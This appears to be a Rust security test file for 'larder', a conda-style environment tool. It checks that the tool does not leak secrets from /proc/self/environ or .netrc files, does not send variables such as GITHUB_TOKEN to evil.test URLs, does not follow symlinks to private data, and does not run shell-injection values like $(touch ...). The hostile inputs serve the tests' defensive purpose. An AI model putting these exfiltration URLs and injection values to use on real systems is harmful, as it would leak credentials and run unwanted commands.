//! Files that a manifest, a link or a restored cache points larder to: nothing of them is shown or obeyed.

use std::{fs, os::unix::fs::symlink, process::Command};

use larder_testkit::{Run, Sandbox};
use serde_json::json;

use crate::support::{app_and_lib, channel, conda, env, program, sandbox};

const SECRET: &str = "s3cr3t-in-a-file-of-the-user";

fn with_python() -> Sandbox {
    let sandbox = sandbox();
    let packages = [
        conda(program("python", "3.11.2")),
        conda(program("pip", "23.0").depends("python")),
    ];
    channel(&sandbox, packages);
    sandbox
}

fn lock_of_pip_line(sandbox: &Sandbox, line: &str) -> Run {
    let manifest =
        format!("channels: [./channel]\ndependencies:\n- python\n- pip\n- pip:\n  - \"{line}\"\n");
    sandbox.write("environment.yml", &manifest);
    let mut command = sandbox.command(&["lock"]);
    Run::of(command.env("MY_DEPLOYMENT", SECRET))
}

#[test]
fn no_line_of_a_file_outside_the_project_is_shown() {
    let sandbox = with_python();
    let netrc = sandbox.home().join("some.netrc");
    let url = url::Url::from_file_path(&netrc).unwrap();
    fs::write(
        &netrc,
        format!("machine h.test login me password {SECRET}\n"),
    )
    .unwrap();
    for file in [
        "/proc/self/environ".to_owned(),
        "/proc/self/cmdline".to_owned(),
        netrc.display().to_string(),
        url.to_string(),
    ] {
        for option in ["-r", "-c", "--requirement=", "--constraint="] {
            let line = match option.ends_with('=') {
                true => format!("{option}{file}"),
                false => format!("{option} {file}"),
            };
            let run = lock_of_pip_line(&sandbox, &line).fails_with(1);
            assert!(!run.stderr.contains(SECRET), "{line}: {}", run.stderr);
        }
    }
}

#[test]
fn no_variable_goes_into_the_address_of_a_pip_line() {
    let sandbox = with_python();
    for line in [
        "foo @ https://evil.test/${MY_DEPLOYMENT}/foo-1-py3-none-any.whl",
        "-f http://${MY_DEPLOYMENT}.evil.test/",
        "--extra-index-url https://evil.test/${MY_DEPLOYMENT}",
        "--extra-index-url https://evil.test/x?y=${MY_DEPLOYMENT}",
        "--index-url https://u:${GITHUB_TOKEN}@evil.test/",
        "-f ${GITHUB_SERVER_URL}.evil.test/${MY_DEPLOYMENT}",
    ] {
        let run = lock_of_pip_line(&sandbox, line).fails_with(1);
        assert!(
            run.stderr.contains("where its value would be sent"),
            "{line}: {}",
            run.stderr
        );
    }
}

#[test]
fn the_text_behind_a_link_that_leads_away_is_not_shown() {
    for text in [
        format!("//registry.npmjs.org/:_authToken={SECRET}\n"),
        format!("machine h.test login me password {SECRET}\n"),
        format!("{SECRET}: 1\ndependencies: [app]\nchannels: [./channel]\n"),
        format!("dependencies: [\"{SECRET} @@\"]\n"),
        format!("@EXPLICIT\n{SECRET}\n"),
    ] {
        let sandbox = app_and_lib();
        fs::write(sandbox.home().join("private"), &text).unwrap();
        fs::remove_file(sandbox.path("environment.yml")).unwrap();
        symlink(
            sandbox.home().join("private"),
            sandbox.path("environment.yml"),
        )
        .unwrap();
        for arguments in [
            &["lock", "--check"][..],
            &["create", "-p", "env"],
            &["manifest"],
        ] {
            let run = sandbox.larder(arguments);
            assert!(!run.stderr.contains(SECRET), "{}", run.stderr);
        }
    }
}

#[test]
fn finish_removes_only_what_a_step_of_this_user_made() {
    let sandbox = app_and_lib();
    let precious = sandbox.home().join("precious");
    fs::create_dir_all(precious.join("deep")).unwrap();
    sandbox.larder(&["create", "-p", "env"]).success();
    let state = json!({"left": null, "environment": env(&sandbox), "remove": [precious]});
    for directory in [".local/state/larder/ci/job", ".cache/larder/ci/job"] {
        let directory = sandbox.home().join(directory);
        fs::create_dir_all(&directory).unwrap();
        fs::write(directory.join("state.json"), state.to_string()).unwrap();
    }
    let run = sandbox.larder(&["ci", "finish"]);
    assert!(precious.join("deep").is_dir(), "{}", run.stderr);
    assert!(env(&sandbox).join("conda-meta/history").is_file());
}

#[test]
fn no_shell_evaluates_the_value_of_a_variable() {
    let sandbox = app_and_lib();
    let mark = sandbox.path("executed");
    let value = format!("a[$(touch {})]", mark.display());
    for name in [
        "RANDOM", "SRANDOM", "OPTIND", "HISTCMD", "SECONDS", "LINENO",
    ] {
        let manifest = format!(
            "channels: [./channel]\ndependencies: [app]\nvariables: {{{name}: '{value}'}}\n"
        );
        sandbox.write("environment.yml", &manifest);
        sandbox.larder(&["create", "-p", "env", "--yes"]).success();
        for shell in ["bash", "zsh", "dash", "ksh"] {
            let hook = sandbox
                .larder(&["shell-hook", "-p", "env", "--shell", shell])
                .stdout;
            let program = if shell == "dash" { "sh" } else { shell };
            // A shell that is not here runs nothing.
            Command::new(program).args(["-c", &hook]).output().ok();
            assert!(!mark.exists(), "{name} in {shell}: {hook}");
        }
    }
}

/// A remote that is a directory: whoever may write to it puts links to directories of this user there.
#[test]
fn a_link_in_a_directory_remote_leads_nowhere() {
    for link in ["store1", "store1/pkgs", ".tmp", "store1/roots"] {
        let sandbox = app_and_lib();
        let precious = sandbox.home().join("precious");
        fs::create_dir_all(&precious).unwrap();
        let old = fs::File::create(precious.join("file")).unwrap();
        let time = std::time::SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1000);
        old.set_modified(time).unwrap();
        let place = sandbox.path("remote").join(link);
        fs::create_dir_all(place.parent().unwrap()).unwrap();
        symlink(&precious, &place).unwrap();
        let remote = url::Url::from_directory_path(sandbox.path("remote")).unwrap();
        for arguments in [
            &[
                "create",
                "-p",
                "env",
                "--yes",
                "--remote",
                remote.as_str(),
                "--push",
            ][..],
            &["store", "pull", "--remote", remote.as_str()],
            &["store", "gc", "--remote", remote.as_str()],
        ] {
            let run = sandbox.larder(arguments);
            let left: Vec<_> = fs::read_dir(&precious)
                .unwrap()
                .map(|entry| entry.unwrap().file_name())
                .collect();
            assert_eq!(left, ["file"], "{link}: {arguments:?}: {}", run.stderr);
        }
    }
}

/// What is refused in a store or a prefix is the user's good right in a project: files that are links.
#[test]
fn manifests_locks_and_requirements_may_be_links() {
    let sandbox = app_and_lib();
    sandbox.larder(&["lock"]).success();
    fs::create_dir(sandbox.path("kept")).unwrap();
    for file in ["environment.yml", "conda-lock.yml"] {
        fs::rename(sandbox.path(file), sandbox.path("kept").join(file)).unwrap();
        symlink(sandbox.path("kept").join(file), sandbox.path(file)).unwrap();
    }
    sandbox.larder(&["lock", "--check"]).success();
    sandbox
        .larder(&["create", "-p", "env", "--frozen"])
        .success();
    sandbox.larder(&["env", "update", "-p", "env"]).success();
    sandbox
        .larder(&["create", "-p", "two", "-f", "conda-lock.yml"])
        .success();
}
